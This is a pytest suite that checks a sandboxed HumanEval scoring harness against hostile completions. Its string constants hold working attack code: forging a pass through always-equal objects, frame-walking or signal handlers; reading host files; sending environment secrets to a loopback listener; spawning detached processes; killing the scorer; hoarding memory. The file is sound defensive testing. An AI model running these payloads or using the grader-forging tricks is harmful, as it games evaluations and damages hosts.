"""Hostile HumanEval/0 completions, one per attack class of issue 13, each wrong on the real tests.

Every attack is scored through the HumanEval task, as `qwenharness score` does, and must end as a
failed sample (pass@1 = 0) with nothing leaked (no secret from the environment or a host file in the
record, nothing received on a loopback listener), nothing written (the home folder, the working
directory and the temporary folder as they were) and nothing left running (no process of the
sandbox, no process started by the attack, no cgroup)."""

from __future__ import annotations

import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psutil
import pytest

from qwenharness.testing import sandbox_processes

from qwenharness.data import load
from qwenharness.sandbox import Limits, Sandbox, TimeoutPolicy
from qwenharness.tasks.code import HumanEval

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    sb = Sandbox(limits=Limits(memory_bytes=512 * 1024**2, file_size_bytes=64 * 1024**2, open_files=64,
                               output_bytes=16384),
                 policy=TimeoutPolicy(floor_s=3.0, factor=4.0, ceiling_s=10.0), workers=2)
    assert sb.isolation == "bubblewrap", "install bubblewrap (apt-get install bubblewrap) to run these tests"
    yield sb
    sb.close()


@pytest.fixture(scope="module")
def task(sandbox: Sandbox) -> HumanEval:
    return HumanEval(sandbox)


@pytest.fixture(scope="module")
def doc() -> dict[str, Any]:
    return next(d for d in load("humaneval") if d["task_id"] == "HumanEval/0")


class Listener:
    """A TCP server on the host's loopback that records every byte sent to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1.0)
            try:
                while data := conn.recv(65536):
                    self.received.append(data)
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@dataclass
class Host:
    home: Path
    canary: Path
    secret_env: str
    secret_text: str
    secret_name: str
    token: str
    listener: Listener
    snapshot: dict[str, Any] = field(default_factory=dict)

    def secrets(self) -> list[str]:
        return [self.secret_env, self.secret_text, self.secret_name]


def tree(path: Path) -> dict[str, bytes]:
    return {str(p.relative_to(path)): (p.read_bytes() if p.is_file() else b"<dir>") for p in sorted(path.rglob("*"))}


def tmp_entries() -> set[str]:
    return {p.name for p in Path(os.environ.get("TMPDIR", "/tmp")).iterdir() if p.name.startswith("qh-")}


def token_processes(token: str) -> list[psutil.Process]:
    found = []
    for p in psutil.process_iter(["cmdline", "status"]):
        try:
            if any(token in part for part in (p.info.get("cmdline") or [])) and p.info["status"] != "zombie":
                found.append(p)
        except (psutil.NoSuchProcess, psutil.AccessDenied):
            continue
    return found


def marked_processes(sb: Sandbox) -> list[psutil.Process]:
    return sandbox_processes(sb.instance_id)


def cgroup_leftovers(sb: Sandbox) -> list[str]:
    if sb.cgroups is None:
        return []
    return [str(d) for parent in sb.cgroups.parents.values() for d in parent.glob(f"{sb.cgroups.prefix}-*")]


@pytest.fixture()
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
    home = tmp_path / "home"
    home.mkdir()
    name = "id_ed25519-" + secrets.token_hex(6)
    text = "canary-" + secrets.token_hex(12)
    (home / name).write_text(text)
    canary = tmp_path / "outside" / "canary.txt"
    canary.parent.mkdir()
    canary.write_text(text)
    secret = "sk-" + secrets.token_hex(16)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("QH_ATTACK_SECRET", secret)
    listener = Listener()
    h = Host(home, canary, secret, text, name, "qh-attack-" + secrets.token_hex(6), listener)
    h.snapshot = {"home": tree(home), "outside": tree(canary.parent), "cwd": sorted(os.listdir(".")),
                  "tmp": tmp_entries(), "children": {p.pid for p in psutil.Process().children(recursive=True)}}
    yield h
    listener.close()


def attack(code: str, h: Host) -> str:
    """The attack's source with the host's facts (paths, port, token, harness pid) filled in, as a
    fenced answer (so `score` runs all of it, not just what precedes the first stop sequence)."""
    code = textwrap.dedent(code).replace("@HOME@", str(h.home)).replace("@CANARY@", str(h.canary)) \
        .replace("@PORT@", str(h.listener.port)).replace("@TOKEN@", h.token).replace("@SCORER@", str(os.getpid()))
    return f"```python\n{code}\n```"


def assert_contained(h: Host, sb: Sandbox, record: Any, sample: int = 0) -> None:
    status = record.extra["status"][sample]
    assert status != "passed", record.extra
    text = json.dumps(record.to_dict(), default=str)
    for s in h.secrets():
        assert s not in text, f"a secret reached the record: {s}"
    time.sleep(0.3)  # anything the attack sent has arrived by now
    assert h.listener.connections == 0 and h.listener.received == [], h.listener.received
    assert tree(h.home) == h.snapshot["home"], "the home folder changed"
    assert tree(h.canary.parent) == h.snapshot["outside"], "a file outside changed"
    assert sorted(os.listdir(".")) == h.snapshot["cwd"], "the working directory changed"
    assert tmp_entries() <= h.snapshot["tmp"], "a sample folder was left behind"
    assert not Path("/root/qh-pwned").exists()
    assert token_processes(h.token) == [], "a process started by the attack outlived the run"
    assert marked_processes(sb) == [], "a sandboxed process outlived the run"
    assert [p for p in psutil.Process().children(recursive=True) if p.pid not in h.snapshot["children"]] == []
    assert cgroup_leftovers(sb) == [], "a cgroup was left behind"


def score(task: HumanEval, doc: dict[str, Any], *completions: str) -> Any:
    """The record `score` makes; and proof that the first completion's attack code really ran (it
    prints ATTACK-RAN first thing), so a test cannot pass because the attack never executed."""
    [record] = task.score_responses([(doc, list(completions))])
    program = task.program(doc, task.completion(doc, completions[0], chat=False))
    [direct] = task.sandbox.run_many([program])
    assert "ATTACK-RAN" in direct.output, (direct, program.solution)
    LAST_DIRECT[:] = [direct]
    return record


LAST_DIRECT: list[Any] = []  # the direct run of the last score() call (its captured output)


# -- the control: the same machinery passes a correct answer -----------------------------------------

CORRECT = """
import itertools

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN (none: the control)", flush=True)
    return any(abs(a - b) < threshold for a, b in itertools.combinations(numbers, 2))
"""


def test_a_correct_fenced_answer_passes(task: HumanEval, doc: dict[str, Any], host: Host, sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(CORRECT, host))
    assert rec.extra["status"] == ["passed"], rec.extra
    assert rec.extra["isolation"] == "bubblewrap"


# -- fake passes ------------------------------------------------------------------------------------

EQUAL_TO_EVERYTHING = """
class Yes:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    __hash__ = object.__hash__

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", flush=True)
    return Yes()
"""

FRAME_WALK = """
import os, sys

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", flush=True)
    wire = sys.modules.get("wire")
    forged = wire.encode({"status": "passed", "message": ""}) if wire else b"passed"
    f = sys._getframe(1)
    while f is not None:  # rebind whatever the trusted code up the stack uses to report
        for space in (f.f_globals, f.f_locals):
            for k in list(space):
                if k in ("encode", "send", "_verdict", "run", "receive"):
                    space[k] = (lambda *a, **k: forged)
        f = f.f_back
    if wire:
        wire.encode = lambda value: forged
    for fd in range(0, 256):
        try:
            os.write(fd, forged)
        except OSError:
            pass
    return True
"""

FINALIZERS_AND_SIGNALS = """
import atexit, gc, os, signal, sys

def forge(*_):
    wire = sys.modules.get("wire")
    data = wire.encode({"status": "passed", "message": ""}) if wire else b"passed"
    for fd in range(0, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass

class Cycle:
    def __del__(self):
        forge()

def arm():
    signal.signal(signal.SIGALRM, forge)
    signal.setitimer(signal.ITIMER_REAL, 0.05, 0.02)
    atexit.register(forge)
    gc.callbacks.append(lambda *a: forge())
    return True

ARMED = arm()  # at import: the handlers are in place before any test runs

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", ARMED, flush=True)
    for _ in range(2000):
        c = Cycle()
        c.me = c
    return False
"""


def test_an_object_equal_to_everything_fails(task: HumanEval, doc: dict[str, Any], host: Host,
                                             sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(EQUAL_TO_EVERYTHING, host))
    assert rec.scores["pass@1"] == 0.0 and rec.extra["status"] == ["failed"]
    assert_contained(host, sandbox, rec)


def test_rebinding_the_reporters_globals_through_frames_fails(task: HumanEval, doc: dict[str, Any], host: Host,
                                                              sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(FRAME_WALK, host))
    assert rec.scores["pass@1"] == 0.0
    assert_contained(host, sandbox, rec)


def test_finalizers_and_signal_handlers_cannot_forge_a_pass(task: HumanEval, doc: dict[str, Any], host: Host,
                                                            sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(FINALIZERS_AND_SIGNALS, host))
    assert rec.scores["pass@1"] == 0.0
    assert_contained(host, sandbox, rec)


SHADOW_A_BUILTIN = """
def abs(x):
    return 0.0

def truncate_number(number):
    print("ATTACK-RAN", flush=True)
    return 0.0
"""


def test_a_candidate_builtin_cannot_judge_the_tests(task: HumanEval, host: Host, sandbox: Sandbox) -> None:
    """HumanEval/2's tests check ``abs(candidate(x) - y) < 1e-6``: a solution that defines its own
    ``abs`` must not have the tests call it."""
    doc2 = next(d for d in load("humaneval") if d["task_id"] == "HumanEval/2")
    assert "abs(candidate" in doc2["test"]
    rec = score(task, doc2, attack(SHADOW_A_BUILTIN, host))
    assert rec.scores["pass@1"] == 0.0 and rec.extra["status"] == ["failed"]
    assert_contained(host, sandbox, rec)


FAKE_POLY = """
def poly(xs, x):
    return 0.0

def find_zero(xs):
    print("ATTACK-RAN", flush=True)
    return 12345.0
"""


def test_a_property_check_uses_the_datasets_helper(task: HumanEval, host: Host, sandbox: Sandbox) -> None:
    """HumanEval/32 checks ``abs(poly(coeffs, candidate(coeffs))) < 1e-4`` with the prompt's `poly`: a
    solution that redefines `poly` to return 0 must still fail (the tests keep the dataset's)."""
    doc32 = next(d for d in load("humaneval") if d["task_id"] == "HumanEval/32")
    assert "poly(" in doc32["test"] and "def poly(" in doc32["prompt"]
    rec = score(task, doc32, attack(FAKE_POLY, host))
    assert rec.scores["pass@1"] == 0.0 and rec.extra["status"] == ["failed"]
    assert_contained(host, sandbox, rec)
    body = doc32["canonical_solution"]  # indented: the function's body
    good = score(task, doc32, attack("def find_zero(xs):\n    print('ATTACK-RAN (none)')\n" + body, host))
    assert good.extra["status"] == ["passed"], good.extra


# -- data leaving the sandbox -----------------------------------------------------------------------

EXFILTRATE_FILES = """
import os

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", flush=True)
    found = []
    for path in ("@HOME@", "@CANARY@", os.path.dirname("@CANARY@"), "/root", "/home", "/work/shared/data",
                 "/etc", "/proc/1/root", "/proc/self/mountinfo"):
        try:
            found.append(path + ": " + repr(os.listdir(path)))
        except OSError as e:
            found.append(str(e))
        try:
            with open(path) as f:
                found.append(f.read()[:2000])
        except OSError as e:
            found.append(str(e))
    print("\\n".join(found), flush=True)
    raise AssertionError("\\n".join(found))
"""

ENVIRONMENT_TO_LOOPBACK = """
import atexit, os, socket

def leak():
    data = repr(dict(os.environ)).encode()
    try:
        data += open("/proc/1/environ", "rb").read()
    except OSError:
        pass
    for host in ("127.0.0.1", "localhost", "::1"):
        try:
            with socket.create_connection((host, @PORT@), timeout=0.3) as s:
                s.sendall(data)
        except OSError:
            pass

class Later:
    def __del__(self):
        leak()

def arm():
    atexit.register(leak)
    leak()
    return Later()

KEEP = arm()

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", KEEP, flush=True)
    leak()
    print(dict(os.environ))
    return not numbers
"""


def test_host_files_cannot_reach_the_record(task: HumanEval, doc: dict[str, Any], host: Host,
                                            sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(EXFILTRATE_FILES, host))
    assert rec.scores["pass@1"] == 0.0 and rec.extra["status"] == ["failed"]
    assert "No such file or directory" in rec.extra["error"][0], rec.extra  # it looked, and found nothing
    assert_contained(host, sandbox, rec)


def test_the_environment_cannot_reach_a_loopback_socket(task: HumanEval, doc: dict[str, Any], host: Host,
                                                        sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(ENVIRONMENT_TO_LOOPBACK, host))
    assert rec.scores["pass@1"] == 0.0
    assert_contained(host, sandbox, rec)


# -- damage outside ---------------------------------------------------------------------------------

WRITE_HOME = """
import atexit, os

def scribble():
    for cmd in ("echo pwned > @HOME@/pwned", "echo pwned > ~/pwned", "touch /root/qh-pwned"):
        try:
            os.system(cmd)
        except Exception:
            pass
    for path in ("@HOME@/pwned", os.path.expanduser("~/pwned"), "/root/qh-pwned", "@CANARY@"):
        try:
            with open(path, "w") as f:
                f.write("pwned")
        except OSError:
            pass
    try:
        os.remove("@CANARY@")
    except OSError:
        pass

class Later:
    def __del__(self):
        scribble()

def arm():
    atexit.register(scribble)
    scribble()
    return Later()

KEEP = arm()

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", KEEP, flush=True)
    scribble()
    return True
"""

OUTLIVE = """
import os, sys

ARGS = [sys.executable, "-S", "-c", "import time  # @TOKEN@\\ntime.sleep(120)"]

def spawn():
    try:
        import subprocess
        subprocess.Popen(ARGS, start_new_session=True, env={})  # no marker in its environment
        print("SPAWNED popen", flush=True)
    except Exception:
        pass
    try:
        import _posixsubprocess  # the low-level route
        os.posix_spawn(sys.executable, ARGS, {}, setsid=True)
        print("SPAWNED posix_spawn", flush=True)
    except Exception:
        pass
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execve(sys.executable, ARGS, {})
            os._exit(0)
        print("SPAWNED double fork", flush=True)
    except Exception:
        pass
    return True

SPAWNED = spawn()

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", SPAWNED, flush=True)
    spawn()
    return True
"""

KILL_THE_SCORER = """
import os, signal

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", flush=True)
    for pid in [@SCORER@, os.getppid(), 1] + list(range(2, 200)):
        if pid == os.getpid():
            continue
        try:
            fd = os.pidfd_open(pid)
            signal.pidfd_send_signal(fd, signal.SIGKILL)
        except OSError:
            pass
    for pid in (@SCORER@, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return True
"""

MEMFD_HOARD = """
import os, signal

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", flush=True)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    chunk = b"x" * (1 << 20)
    fds, total = [], 0
    while total < (6 << 30):
        try:
            fd = os.memfd_create("hoard")
        except OSError:
            break
        fds.append(fd)
        while total < (6 << 30):
            try:
                os.write(fd, chunk)
            except OSError:
                break
            total += 1 << 20
            if total % (32 << 20) == 0:
                print("held", total >> 20, flush=True)
    print("held", total >> 20, flush=True)
    return True
"""

IMMUTABLE_FOLDER = """
import fcntl, os, struct

def lock():
    os.makedirs("keep/inner", exist_ok=True)
    open("keep/inner/file", "w").write("x")
    for path in ("keep/inner/file", "keep/inner", "keep", "."):
        try:
            fd = os.open(path, os.O_RDONLY)
            fcntl.ioctl(fd, 0x40086602, struct.pack("i", 0x10))  # FS_IOC_SETFLAGS, FS_IMMUTABLE_FL
        except OSError as e:
            print("ioctl", path, e)
    try:
        os.system("chattr +i keep")
    except Exception:
        pass
    return True

LOCKED = lock()

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", LOCKED, flush=True)
    lock()
    return True
"""


def test_writing_into_home_fails(task: HumanEval, doc: dict[str, Any], host: Host, sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(WRITE_HOME, host))
    assert rec.scores["pass@1"] == 0.0
    assert_contained(host, sandbox, rec)


def test_a_spawned_process_does_not_outlive_the_run(task: HumanEval, doc: dict[str, Any], host: Host,
                                                    sandbox: Sandbox) -> None:
    """By default the candidate cannot start a process at all (seccomp: threads only)."""
    rec = score(task, doc, attack(OUTLIVE, host))
    assert rec.scores["pass@1"] == 0.0
    assert "SPAWNED" not in LAST_DIRECT[0].output
    assert_contained(host, sandbox, rec)


def test_a_spawned_process_dies_with_the_sample_namespace(doc: dict[str, Any], host: Host) -> None:
    """Where processes are allowed, the ones the attack starts (detached, environment cleared) die
    with the sample's PID namespace."""
    sb = Sandbox(limits=Limits(allow_processes=True), policy=TimeoutPolicy(floor_s=3.0))
    try:
        rec = score(HumanEval(sb), doc, attack(OUTLIVE, host))
        assert rec.scores["pass@1"] == 0.0
        assert LAST_DIRECT[0].output.count("SPAWNED") >= 3, LAST_DIRECT[0].output
        assert_contained(host, sb, rec)
    finally:
        sb.close()


def test_the_scorer_survives_and_the_batch_is_scored(task: HumanEval, doc: dict[str, Any], host: Host,
                                                     sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(KILL_THE_SCORER, host), doc["canonical_solution"])
    assert rec.extra["status"][1] == "passed", rec.extra  # the batch went on
    assert rec.extra["num_passed"] == 1
    assert psutil.pid_exists(os.getpid())
    assert_contained(host, sandbox, rec, sample=0)


def test_anonymous_memory_files_stay_within_the_cap(task: HumanEval, doc: dict[str, Any], host: Host,
                                                    sandbox: Sandbox) -> None:
    lim = sandbox.limits
    rec = score(task, doc, attack(MEMFD_HOARD, host))
    assert rec.scores["pass@1"] == 0.0
    assert_contained(host, sandbox, rec)
    # what the attack managed to hold, as it printed it on the way
    results = sandbox.run_many([task.program(doc, attack(MEMFD_HOARD, host))])
    held = max([int(line.split()[1]) for line in results[0].output.splitlines() if line.startswith("held ")] or [0])
    cap = lim.memory_bytes if sandbox.cgroups else lim.open_files * lim.file_size_bytes
    assert held << 20 <= cap, (held, results[0])
    assert results[0].status != "passed"


def test_an_immutable_folder_is_not_left_behind(task: HumanEval, doc: dict[str, Any], host: Host,
                                                sandbox: Sandbox) -> None:
    rec = score(task, doc, attack(IMMUTABLE_FOLDER, host))
    assert rec.scores["pass@1"] == 0.0
    assert_contained(host, sandbox, rec)


SLEEPER = """
import time

def has_close_elements(numbers, threshold):
    print("ATTACK-RAN", flush=True)
    time.sleep(120)
    return True
"""


def sample_processes(scorer: int) -> list[psutil.Process]:
    """The candidate processes (sandboxed interpreters) under the scorer's process tree."""
    try:
        tree = psutil.Process(scorer).children(recursive=True)
    except psutil.NoSuchProcess:
        return []
    return [p for p in tree if any("candidate.entry()" in part for part in _cmdline(p))]


def _cmdline(p: psutil.Process) -> list[str]:
    try:
        return p.cmdline()
    except (psutil.NoSuchProcess, psutil.AccessDenied):
        return []


def test_kill_9_of_score_leaves_no_sample_behind(tmp_path: Path, host: Host) -> None:
    responses = tmp_path / "responses.jsonl"
    responses.write_text(json.dumps({"task_id": "HumanEval/0", "completion": attack(SLEEPER, host)}) + "\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    scorer = subprocess.Popen([sys.executable, "-m", "qwenharness", "score", "--dataset", "humaneval",
                               "--responses", str(responses)], env=env, cwd=tmp_path,
                              stdout=subprocess.DEVNULL, stderr=open(tmp_path / "stderr.txt", "wb"))
    try:
        deadline = time.monotonic() + 60
        sleeping: list[psutil.Process] = []
        while not sleeping and time.monotonic() < deadline and scorer.poll() is None:
            time.sleep(0.2)
            sleeping = sample_processes(scorer.pid)
        assert sleeping, (tmp_path / "stderr.txt").read_text()[-2000:]
        time.sleep(0.5)  # it is in its sleep by now
        os.kill(scorer.pid, signal.SIGKILL)
        scorer.wait()
    finally:
        if scorer.poll() is None:
            scorer.kill()
            scorer.wait()
    deadline = time.monotonic() + 5
    while any(p.is_running() and p.status() != "zombie" for p in sleeping) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not [p for p in sleeping if p.is_running() and p.status() != "zombie"], \
        "a sample's process outlived kill -9 of score"
    assert tmp_entries() <= host.snapshot["tmp"], "a sample folder outlived kill -9 of score"
    # its cgroups (empty) are removed by the next harness that starts
    Sandbox()
    from qwenharness.sandbox.cgroup import _ROOT  # noqa: PLC0415 - only to look for leftovers

    assert not list(_ROOT.glob(f"*/**/qh-{scorer.pid}-*")), "a cgroup of the killed score was left behind"
